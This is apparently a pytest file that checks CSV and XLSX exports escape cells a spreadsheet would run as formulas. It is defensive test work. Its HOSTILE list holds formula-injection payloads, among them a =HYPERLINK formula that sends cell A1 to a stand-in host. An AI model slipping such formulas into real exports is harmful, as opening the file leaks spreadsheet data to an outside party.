"""CSV and XLSX exports neutralise text a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from services.api.exports import to_csv, to_xlsx

pytestmark = pytest.mark.pure

# An agency name is free text in the reference data; dossier and procedure codes may start with -.
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Xem")', "+1+1", "-2-3", "@SUM(A1)", "\tx"]
ROWS = [[name, -3, 4.5, "UBND Nha Trang"] for name in HOSTILE]


def test_csv_cells_that_would_be_formulas_are_text() -> None:
    # Catches: a name like =HYPERLINK(...) written as is, which Excel runs on open.
    body = to_csv(["Cơ quan", "a", "b", "c"], ROWS)
    table = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert [r[0] for r in table[1:]] == ["'" + h for h in HOSTILE]
    assert table[1][1:] == ["-3", "4.5", "UBND Nha Trang"]  # numbers and plain text untouched


def test_xlsx_cells_that_would_be_formulas_are_strings() -> None:
    # Catches: openpyxl storing a string that starts with = as a formula.
    sheet = load_workbook(io.BytesIO(to_xlsx("t", "Tiêu đề", "", ["Cơ quan"], ROWS))).active
    assert sheet is not None
    cells = [sheet.cell(row=4 + i, column=1) for i in range(len(HOSTILE))]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
    assert [c.value for c in cells] == ["'" + h for h in HOSTILE]
    assert sheet.cell(row=4, column=2).value == -3
